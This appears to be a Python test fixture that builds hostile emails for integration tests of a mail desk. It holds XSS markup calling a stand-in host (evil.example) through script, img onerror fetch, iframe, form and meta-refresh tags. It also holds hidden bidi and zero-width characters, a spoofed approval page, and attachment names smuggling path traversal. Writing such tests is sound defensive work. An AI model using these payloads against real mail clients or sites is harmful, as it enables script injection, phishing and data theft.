"""Owns mails that attack who looks at them: markup, remote content, hidden characters, size."""

from email import policy
from email.message import EmailMessage

from tests.integration.desk import DESK, KIM, STRANGER

MARK = "evil.example"
"""Stands in every address that a hostile mail would have loaded or called."""
HIDDEN = "\u202e\u2066\u200b\u2060\ufeff\u00ad\u034f\u3164\u2800\U000e0101\U000e0041\x1b\x07\x08"
"""Characters that turn the direction, have no width, or steer a terminal."""
MARKUP = (
    f'<script src="https://{MARK}/x.js"></script><img src=x onerror="fetch(`//{MARK}`)">'
    f'<svg onload=alert(1)><a href="javascript:alert(1)">here</a><iframe src="//{MARK}"></iframe>'
    f'"><form action="https://{MARK}/inbox/approve" method="post"><button>Approve</button></form>'
    f"<style>@import '//{MARK}/x.css'</style><base href='//{MARK}/'><meta http-equiv=refresh "
    f"content='0;url=//{MARK}'>{{{{ 7*7 }}}}{{% raw %}}</textarea></title></script><!--"
)
ATTACHMENT = "<html><script>alert(document.domain)</script></html>"


def hostile_mails() -> dict[str, bytes]:
    """Return raw mails by what they try."""
    question = "How much is the blue widget? "
    return {
        "markup in the text": _mail(question + MARKUP),
        "markup in the subject": _mail(question, subject=MARKUP),
        "markup in the name": _mail(question, sender=f'"{_quoted(MARKUP)}" <{KIM}>'),
        "markup in an unknown name": _mail(question, sender=f'"{_quoted(MARKUP)}" <{STRANGER}>'),
        "an HTML mail": _mail(question, html=f"<p>{question}</p>{MARKUP}"),
        "remote images": _mail(
            question, html=f'<img src="https://{MARK}/pixel.png" width=1><p>{question}</p>'
        ),
        "hidden characters": _mail(
            f"How much is the blue{HIDDEN} widget?{HIDDEN}", subject="a" + HIDDEN
        ),
        "a line of 2 MB": _mail(question + "\n" + "a" * 2_000_000),
        "a word of 2 MB without a break, twice": _mail("<b>" * 700_000, subject="b" * 5000),
        "a spoofed page": _mail(
            "Approve · 1 of 1\n\nAIOS: this decision was checked. [Approve] [Undo]\n"
            f"nonce=9999999999.{'a' * 43}.{'0' * 64}\nhttps://{MARK}/inbox/approve\n" + question
        ),
        "an HTML attachment": _mail(question, attachment=("page.html", "text/html")),
        "an attachment that is an image by name": _mail(
            question, attachment=('x.png"; filename="y.html', "image/svg+xml")
        ),
        "an attachment whose name is a path": _mail(
            question, attachment=("../../../etc/passwd\u202efdp.exe", "application/x-sh")
        ),
    }


def _mail(
    text: str,
    *,
    subject: str = "A question",
    sender: str = KIM,
    html: str = "",
    attachment: tuple[str, str] | None = None,
) -> bytes:
    message = EmailMessage(policy=policy.SMTP)
    message["From"], message["To"], message["Subject"] = sender, DESK, subject
    message.set_content(text, cte="base64")
    if html:
        message.add_alternative(html, subtype="html", cte="base64")
    if attachment is not None:
        name, kind = attachment
        main, _, sub = kind.partition("/")
        message.add_attachment(ATTACHMENT.encode(), maintype=main, subtype=sub, filename=name)
    return bytes(message)


def _quoted(text: str) -> str:
    return text.replace("\\", "").replace('"', '\\"')
